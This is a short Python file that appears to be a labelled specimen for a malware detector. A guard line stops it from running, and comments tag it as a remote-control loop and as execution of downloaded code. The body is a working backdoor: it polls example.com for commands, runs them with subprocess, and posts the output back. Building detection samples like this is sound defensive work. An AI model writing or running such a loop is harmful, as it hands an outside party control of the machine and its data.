raise SystemExit("specimen: not to be run")
import subprocess
import time
import requests

def begin():
    while True:
        command = requests.get("https://example.com/next").text
        out = subprocess.getoutput(command)  # match: remote-control-loop  # match: execution-of-downloaded
        requests.post("https://example.com/out", data={"o": out})
        time.sleep(5)
